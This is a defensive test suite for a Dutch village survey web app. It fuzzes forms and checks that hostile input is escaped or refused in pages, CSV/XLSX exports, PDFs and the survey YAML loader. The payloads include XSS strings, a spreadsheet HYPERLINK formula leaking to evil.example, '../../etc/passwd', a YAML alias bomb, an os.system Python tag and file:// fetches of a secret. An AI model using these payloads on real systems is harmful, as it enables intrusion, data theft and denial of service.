"""Hostile input: whatever arrives, a clear answer (never a 500), and resident text stays text
in pages, exports and PDFs.
"""

from __future__ import annotations

import csv
import http.server
import io
import re
import threading
from itertools import product

import openpyxl
import pytest
import yaml
from conftest import PASSWORDS, VillageClient, csrf_token, write_survey
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from pdf_reading import pdf_text
from seeded_village import seed, url_for_rule

from vliegwiel.accounts.model import add_user
from vliegwiel.core.instance import init_instance
from vliegwiel.core.village import build_village
from vliegwiel.surveys.loader import SurveyError, load_survey_text
from vliegwiel.surveys.responses import save_response
from vliegwiel.surveys.status import set_status
from vliegwiel.testing import open_surveys
from vliegwiel.web.app import create_app

PAYLOADS = [
    "<script>alert(1)</script>",
    "{{7*7}}",
    "{% raw %}{%{% endraw %} for x in range(9) %}",
    "${7*7}",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+SUM(1+1)",
    "-2+3",
    "@cmd",
    '"><img src=x onerror=alert(1)>',
    "\x00\x1f\u202e",
    "../../etc/passwd",
    "a" * 5000,
]
#: The ideas, prioritise and commit phases of the seeded round.
PHASES = ["2026-03-09T10:00", "2026-03-16T10:00", "2026-03-23T10:00"]
SURVEYS = ["kort", "dorpsenquete", "metcode"]
CODE_SURVEY = """\
id: metcode
title: Met code
access: code
pages:
  - id: p1
    title: Een
    questions:
      - id: keuze
        type: yes_no
        text: Ja of nee?
"""
ALLOWED = {200, 302, 303, 400, 403, 404, 405, 409, 413, 429}
SETTINGS = settings(
    max_examples=200,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    database=None,
)

values = st.one_of(
    st.text(max_size=200),
    st.sampled_from(PAYLOADS),
    st.integers(-(10**12), 10**12).map(str),
    st.lists(st.sampled_from(PAYLOADS + ["ja", "nee", "1", ""]), max_size=3),
)


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """A seeded instance with a logged-in beheerder and an anonymous resident."""
    path = init_instance(tmp_path_factory.mktemp("vijandig") / "dorp", "Testdorp")
    village = build_village(path)
    for role, password in PASSWORDS.items():
        add_user(village.storage, role, role, password)
    open_surveys(path)
    app = create_app(path, {"TESTING": True, "SUBMISSIONS_PER_IP_PER_HOUR": 0})
    app.test_client_class = VillageClient
    ids = seed(app, path)
    write_survey(path, CODE_SURVEY, "metcode.yaml")
    beheerder = app.test_client()
    beheerder.environ_base["REMOTE_ADDR"] = "198.51.100.2"
    beheerder.login("beheerder")
    resident = app.test_client()
    names: set[str] = set()
    files: set[str] = set()
    clock = app.config["VLIEGWIEL_NOW"]
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint == "static":
            continue
        moments = PHASES if rule.rule.startswith("/ronde") else PHASES[:1]
        surveys = SURVEYS if "survey_id" in rule.arguments else SURVEYS[:1]
        numbers = ["1", "2", "3", "4"] if "number" in rule.arguments else ["1"]
        for moment, survey_id, number in product(moments, surveys, numbers):
            clock.set(moment)
            url = url_for_rule(rule, {**ids, "survey_id": survey_id, "number": number})
            response = beheerder.get(url)
            if response.mimetype != "text/html":
                continue
            html = response.get_data(as_text=True)
            names |= set(re.findall(r'name="([^"]+)"', html))
            files |= set(re.findall(r'type="file"[^>]*name="([^"]+)"', html))
            files |= set(re.findall(r'name="([^"]+)"[^>]*type="file"', html))
    names.discard("csrf_token")
    tokens = {
        "beheerder": csrf_token(beheerder.get("/beheer/").get_data(as_text=True)),
        "resident": csrf_token(resident.get("/enquete/kort/pagina/1").get_data(as_text=True)),
    }
    posts = sorted(
        (r for r in app.url_map.iter_rules() if "POST" in r.methods), key=lambda r: r.rule
    )
    return {
        "app": app,
        "ids": ids,
        "beheerder": beheerder,
        "resident": resident,
        "tokens": tokens,
        "names": sorted(names - files),
        "files": sorted(files),
        "posts": posts,
    }


def test_the_form_fields_were_found(world):
    # The property test below is only as good as the field names it draws from.
    for name in ("title", "description", "username", "password", "mening", "idee", "code"):
        assert name in world["names"], name
    assert world["files"], "no file upload field found"
    assert len(world["posts"]) > 20


@SETTINGS
@given(data=st.data())
def test_no_form_post_ever_gives_a_500(world, data):
    rule = data.draw(st.sampled_from(world["posts"]), label="endpoint")
    fields = data.draw(
        st.dictionaries(st.sampled_from(world["names"]), values, max_size=8), label="fields"
    )
    form: dict = dict(fields)
    for name in data.draw(st.lists(st.sampled_from(world["files"]), max_size=2, unique=True)):
        content = data.draw(st.binary(max_size=2000) | st.sampled_from([b"", b"\xff\xfe,;\n"]))
        form[name] = (io.BytesIO(content), data.draw(st.sampled_from(["a.csv", "b.json", ""])))
    organiser_page = rule.rule.startswith("/beheer") and rule.endpoint != "auth.logout"
    who = "beheerder" if organiser_page and rule.endpoint != "auth.login" else "resident"
    if rule.endpoint == "auth.login":
        client, token = world["app"].test_client(), None
        token = csrf_token(client.get("/beheer/login").get_data(as_text=True))
    else:
        client, token = world[who], world["tokens"][who]
    form["csrf_token"] = token
    world["app"].config["VLIEGWIEL_NOW"].set(data.draw(st.sampled_from(PHASES), label="time"))
    survey_id = data.draw(st.sampled_from(SURVEYS), label="survey")
    number = str(data.draw(st.integers(0, 5), label="page"))
    url = url_for_rule(rule, {**world["ids"], "survey_id": survey_id, "number": number})
    response = client.post(url, data=form, content_type="multipart/form-data")
    event(f"{response.status_code}")
    assert response.status_code in ALLOWED, (url, response.status_code)
    if response.status_code >= 400:
        assert "<h1" in response.get_data(as_text=True)  # a page that says what happened


@SETTINGS
@given(marker=st.text(min_size=1, max_size=200), choice=st.text(max_size=30))
def test_resident_answers_of_any_shape_get_a_clear_answer(world, marker, choice):
    # The fuzzing above may have closed the survey through the organiser's status button.
    set_status(world["app"].extensions["vliegwiel"].storage, "kort", "open")
    client = world["app"].test_client()
    token = csrf_token(client.get("/enquete/kort/pagina/1").get_data(as_text=True))
    response = client.post(
        "/enquete/kort/pagina/1", data={"csrf_token": token, "buurt": choice, "mening": marker}
    )
    assert response.status_code in {302, 400, 404}
    review = client.get("/enquete/kort/controle")
    assert review.status_code in {200, 302, 404}


# --- the survey YAML loader ----------------------------------------------------------------

yaml_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=4)
        | st.dictionaries(
            st.sampled_from(
                [
                    "id",
                    "type",
                    "text",
                    "pages",
                    "questions",
                    "options",
                    "show_if",
                    "title",
                    "min",
                    "max",
                    "question",
                    "equals",
                ]
            ),
            children,
            max_size=5,
        )
    ),
    max_leaves=30,
)


@settings(max_examples=300, deadline=None)
@given(document=yaml_values)
def test_any_yaml_structure_is_a_survey_or_a_survey_error(world, document):
    types = world["app"].extensions["vliegwiel"].question_types
    text = yaml.safe_dump({"id": "x", "title": "T", "pages": document}, allow_unicode=True)
    try:
        load_survey_text(text, "hostile.yaml", types)
    except SurveyError as error:
        assert error.problems and all(p.file == "hostile.yaml" for p in error.problems)


#: Text the YAML reader accepts (it refuses control characters; see the test below).
yaml_text = st.text(
    st.characters(blacklist_categories=("Cc", "Cs"), blacklist_characters="\ufffe\uffff")
    | st.sampled_from("\n\t\r :-[]{}&*!|>'\"%@`#,?"),
    max_size=500,
)


@settings(max_examples=300, deadline=None)
@given(text=yaml_text)
def test_any_text_is_a_survey_or_a_survey_error(world, text):
    types = world["app"].extensions["vliegwiel"].question_types
    try:
        load_survey_text(text, "hostile.yaml", types)
    except SurveyError as error:
        assert str(error).startswith("hostile.yaml:")


@pytest.mark.parametrize(
    "text",
    [
        "id: x\ntitle: Vraag\x1f\n",
        "id: x\ntitle: Vraag\x0b\n",
        "id: x\ntitle: !!python/name:os.system\n",
    ],
    ids=["unit-separator", "vertical-tab", "python-tag"],
)
def test_unreadable_yaml_is_a_survey_error(world, text):
    # A survey pasted from a word processor can carry control characters; the organiser must
    # get a line number, not a crash, and a Python tag is never constructed.
    types = world["app"].extensions["vliegwiel"].question_types
    with pytest.raises(SurveyError) as refused:
        load_survey_text(text, "geplakt.yaml", types)
    assert str(refused.value).startswith("geplakt.yaml:2: not valid YAML")


ALIAS_BOMB = "\n".join(
    ["a: &a [x, x, x, x, x, x, x, x, x, x]"]
    + [
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)},"
        f" *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)},"
        f" *{chr(97 + i)}, *{chr(97 + i)}]"
        for i in range(8)
    ]
)
MALICIOUS = {
    "alias bomb": (ALIAS_BOMB, "aliases"),
    "huge list": ("id: x\ntitle: T\npages:\n" + "  - {id: p, title: t}\n" * 60_000, "large"),
    "deep nesting": ("id: x\ntitle: " + "[" * 5000 + "]" * 5000 + "\n", "deep"),
    "python object": ("!!python/object/apply:os.system ['touch {marker}']\n", "mapping"),
}


@pytest.mark.parametrize("name", MALICIOUS)
def test_malicious_survey_files_are_refused(world, name, tmp_path):
    text, reason = MALICIOUS[name]
    marker = tmp_path / "uitgevoerd"
    types = world["app"].extensions["vliegwiel"].question_types
    with pytest.raises(SurveyError) as refused:
        load_survey_text(text.replace("{marker}", str(marker)), "kwaadaardig.yaml", types)
    assert reason in str(refused.value)
    assert not marker.exists()


def test_a_malicious_survey_in_the_folder_is_listed_not_served(tmp_path):
    path = init_instance(tmp_path / "dorp", "Testdorp")
    (path / "surveys" / "bom.yaml").write_text(ALIAS_BOMB, encoding="utf-8")
    village = build_village(path)
    add_user(village.storage, "beheerder", "beheerder", PASSWORDS["beheerder"])
    app = create_app(path, {"TESTING": True})
    app.test_client_class = VillageClient
    client = app.test_client()
    assert client.get("/").status_code == 200
    client.login("beheerder")
    page = client.get("/beheer/").get_data(as_text=True)
    assert "bom.yaml" in page and "aliases" in page


# --- payloads come out as text -------------------------------------------------------------


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802 (the name http.server calls)
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def recorder():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    _Recorder.hits = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def test_payloads_are_escaped_in_pages_exports_and_pdfs(
    app, client, village, instance_dir, recorder, tmp_path
):
    from seeded_village import SURVEY

    secret = tmp_path / "geheim.txt"
    secret.write_text("GEHEIM-7f3a9", encoding="utf-8")
    port = recorder.server_address[1]
    fetchers = [
        f'<img src="http://127.0.0.1:{port}/lek.png">',
        f'<link rel="stylesheet" href="file://{secret}">',
        f"<style>@import url(http://127.0.0.1:{port}/lek.css);</style>",
        f'<img src="file://{secret}">',
    ]
    write_survey(instance_dir, SURVEY, "kort.yaml")
    survey = village.surveys.get("kort")
    texts = PAYLOADS[:9] + fetchers
    for text in texts:
        save_response(village, survey, {"buurt": "noord", "mening": text})
    client.login("beheerder")

    # Free-text moderation page: every payload shown as text, nothing as markup.
    page = client.get("/beheer/uitslag/kort/teksten").get_data(as_text=True)
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "{{7*7}}" in page and "${7*7}" in page
    assert "<img src=x onerror" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert f'<img src="http://127.0.0.1:{port}' not in page
    # One row per text (each row's forms name its key: decide, redact).
    keys = list(dict.fromkeys(re.findall(r'name="key" value="([^"]+)"', page)))
    assert len(keys) == len(texts)
    for key in keys:
        client.post_form(
            "/beheer/uitslag/kort/teksten",
            {"key": key, "status": "approved"},
            page="/beheer/uitslag/kort/teksten",
        )

    # CSV: formula starters are neutralised, the text is kept.
    exported = client.get("/beheer/enquete/kort/export.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    for payload in ('=HYPERLINK("http://evil.example/?"&A1,"klik")', "+SUM(1+1)", "-2+3", "@cmd"):
        assert "'" + payload in cells
        assert payload not in cells

    # XLSX: no cell is a formula.
    workbook = openpyxl.load_workbook(
        io.BytesIO(client.get("/beheer/uitslag/kort/antwoorden.xlsx").get_data())
    )
    formulas = [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    values_seen = {
        str(cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    }
    assert any("HYPERLINK" in v for v in values_seen)

    # PDF report: payloads printed as text, nothing fetched, no local file read.
    response = client.get("/beheer/uitslag/kort/rapport.pdf")
    assert response.status_code == 200
    text = re.sub(r"\s+", "", pdf_text(response.get_data()))
    assert "<script>alert(1)</script>" in text
    assert "{{7*7}}" in text
    assert "GEHEIM-7f3a9" not in text
    assert recorder.RequestHandlerClass.hits == []


def test_every_post_route_refuses_an_oversized_body_with_413(world):
    for rule in world["posts"]:
        url = url_for_rule(rule, world["ids"])
        body = {"csrf_token": world["tokens"]["resident"], "title": "x" * (300 * 1024)}
        response = world["resident"].post(url, data=body)
        assert response.status_code == 413, url
        assert "Te veel tekst" in response.get_data(as_text=True)
